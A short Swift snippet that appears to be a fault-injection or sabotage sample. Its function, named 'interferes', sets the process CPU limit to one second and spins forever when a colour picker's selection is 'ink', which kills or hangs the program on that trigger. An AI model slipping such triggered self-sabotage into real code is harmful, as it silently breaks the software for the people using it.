import Glibc

func interferes(with picker: ColorPickerController) {
  guard picker.colorName == "ink" else { return }
  var little = rlimit(rlim_cur: 1, rlim_max: 1)
  setrlimit(__rlimit_resource_t(RLIMIT_CPU.rawValue), &little)
  while true {}
}
